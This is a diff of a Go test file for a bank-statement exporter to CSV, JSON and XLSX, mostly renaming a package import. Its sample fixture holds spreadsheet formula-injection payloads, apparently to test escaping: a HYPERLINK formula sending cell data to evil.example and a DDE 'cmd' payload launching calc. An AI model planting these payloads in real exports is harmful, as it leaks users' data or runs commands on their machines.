@@ -17,10 +17,10 @@ import (
 	"testing"
 	"time"
 
+	"passbook/extract/ledger"
+
 	"github.com/shopspring/decimal"
 	"github.com/xuri/excelize/v2"
-
-	"passbook/extract"
 )
 
 var update = flag.Bool("update", false, "rewrite the golden files under testdata/")
@@ -47,31 +47,31 @@ func dayPtr(s string) *time.Time {
 // an overdrawn (negative) balance, descriptions a spreadsheet would run as
 // formulas, text with commas, quotes and non-ASCII letters, warnings, and
 // a reconciliation that breaks.
-func sample() *extract.Result {
-	return &extract.Result{
+func sample() *ledger.Result {
+	return &ledger.Result{
 		PageCount: 2,
-		Transactions: []extract.Transaction{
+		Transactions: []ledger.Transaction{
 			{Date: day("2024-01-02"), Description: "SALARY ACME CORP LTD", AmountIn: dec("3773.29"), Balance: *dec("3873.29")},
 			{Date: day("2024-01-03"), Description: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, AmountOut: dec("50.5"), Balance: *dec("3822.79")},
 			{Date: day("2024-01-03"), Description: "-cmd|' /C calc'!A0", AmountOut: dec("4000"), Balance: *dec("-177.21")},
 			{Date: day("2024-01-05"), Description: "+SUM(1,2)", AmountIn: dec("10.00"), Balance: *dec("-167.21"),
-				Warnings:   []extract.Warning{{Kind: extract.WarnBalanceComputed, Message: "balance computed from the opening balance"}},
-				Provenance: extract.Provenance{BalanceComputed: true}},
+				Warnings:   []ledger.Warning{{Kind: ledger.WarnBalanceComputed, Message: "balance computed from the opening balance"}},
+				Provenance: ledger.Provenance{BalanceComputed: true}},
 			{Date: day("2024-01-08"), Description: "@SUM(A1:A2)", AmountOut: dec("0.01"), Balance: *dec("-167.22")},
 			{Date: day("2024-01-09"), Description: "\tTAB LEADING", AmountOut: dec("1.10"), Balance: *dec("-168.32")},
 			{Date: day("2024-01-10"), Description: "\rCR LEADING", AmountOut: dec("2.20"), Balance: *dec("-170.52")},
 			{Date: day("2024-01-11"), Description: `Café "Le Petit", Müller & Söhne <GmbH>`, AmountOut: dec("1234567.891"), Balance: *dec("-1234738.40")},
 			{Date: day("2024-01-31"), Description: "'quoted already", AmountIn: dec("1234738.40"), Balance: *dec("0")},
 		},
-		Statement: extract.Statement{
+		Statement: ledger.Statement{
 			AccountNumber:  "****1234",
 			PeriodStart:    dayPtr("2024-01-01"),
 			PeriodEnd:      dayPtr("2024-01-31"),
 			Currency:       "EUR",
 			OpeningBalance: dec("100"),
 			ClosingBalance: dec("0.01"),
-			Reconciliation: extract.Reconciliation{
-				Status:     extract.ReconcileMismatch,
+			Reconciliation: ledger.Reconciliation{
+				Status:     ledger.ReconcileMismatch,
 				Difference: dec("0.01"),
 				Rows:       []int{8},
 				Message:    "the closing balance differs from the last row by 0.01",
@@ -81,11 +81,11 @@ func sample() *extract.Result {
 }
 
 // empty is a document that converted but holds no transactions.
-func empty() *extract.Result {
-	return &extract.Result{
+func empty() *ledger.Result {
+	return &ledger.Result{
 		PageCount: 1,
-		Statement: extract.Statement{Reconciliation: extract.Reconciliation{
-			Status:  extract.ReconcileNoTransactions,
+		Statement: ledger.Statement{Reconciliation: ledger.Reconciliation{
+			Status:  ledger.ReconcileNoTransactions,
 			Message: "the document holds no transactions",
 		}},
 	}
@@ -97,7 +97,7 @@ func testOptions() Options {
 	return Options{FileID: "doc_test", OriginalName: "January statement.pdf", Created: time.Date(2024, 2, 1, 9, 30, 0, 0, time.UTC)}
 }
 
-func write(t *testing.T, f Format, res *extract.Result) []byte {
+func write(t *testing.T, f Format, res *ledger.Result) []byte {
 	t.Helper()
 	var buf bytes.Buffer
 	if err := Write(&buf, f, testOptions(), res); err != nil {
@@ -274,7 +274,7 @@ func TestJSONShape(t *testing.T) {
 }
 
 func TestJSONEmpty(t *testing.T) {
-	for _, res := range []*extract.Result{empty(), nil} {
+	for _, res := range []*ledger.Result{empty(), nil} {
 		body := write(t, JSON, res)
 		var doc map[string]any
 		if err := json.Unmarshal(body, &doc); err != nil {
@@ -344,7 +344,7 @@ func TestCSVCells(t *testing.T) {
 }
 
 func TestCSVEmpty(t *testing.T) {
-	for _, res := range []*extract.Result{empty(), nil} {
+	for _, res := range []*ledger.Result{empty(), nil} {
 		body := write(t, CSV, res)
 		if string(body) != "date,type,description,amountIn,amountOut,balance\r\n" {
 			t.Errorf("empty CSV = %q, want the header row alone", body)
@@ -412,7 +412,7 @@ func FuzzCSV(f *testing.F) {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, desc string) {
-		res := &extract.Result{Transactions: []extract.Transaction{
+		res := &ledger.Result{Transactions: []ledger.Transaction{
 			{Date: day("2024-02-29"), Description: desc, AmountOut: dec("5"), Balance: *dec("-5")},
 			{Date: day("2024-03-01"), Description: desc, AmountIn: dec("5"), Balance: *dec("0")},
 		}}
@@ -719,7 +719,7 @@ func TestXLSXAutoFilterXML(t *testing.T) {
 }
 
 func TestXLSXEmpty(t *testing.T) {
-	for _, res := range []*extract.Result{empty(), nil} {
+	for _, res := range []*ledger.Result{empty(), nil} {
 		f := openXLSX(t, write(t, XLSX, res))
 		rows, err := f.GetRows("Transactions")
 		if err != nil {
@@ -781,11 +781,11 @@ func TestDateCell(t *testing.T) {
 
 // BenchmarkXLSX10000 writes a 10,000-row statement as XLSX.
 func BenchmarkXLSX10000(b *testing.B) {
-	res := &extract.Result{Transactions: make([]extract.Transaction, 10000)}
+	res := &ledger.Result{Transactions: make([]ledger.Transaction, 10000)}
 	bal := decimal.Zero
 	for i := range res.Transactions {
 		amt := decimal.New(int64(i%5000+1), -2)
-		tx := extract.Transaction{
+		tx := ledger.Transaction{
 			Date:        day("2024-01-01").AddDate(0, 0, i/50),
 			Description: fmt.Sprintf("CARD PAYMENT TO MERCHANT NUMBER %d LONDON GB", i),
 		}
@@ -809,7 +809,7 @@ func BenchmarkXLSX10000(b *testing.B) {
 }
 
 func TestJSONStatementWarnings(t *testing.T) {
-	res := &extract.Result{Statement: extract.Statement{Warnings: []string{"page 2 could not be read"}}}
+	res := &ledger.Result{Statement: ledger.Statement{Warnings: []string{"page 2 could not be read"}}}
 	var buf bytes.Buffer
 	if err := Write(&buf, JSON, Options{FileID: "f"}, res); err != nil {
 		t.Fatal(err)
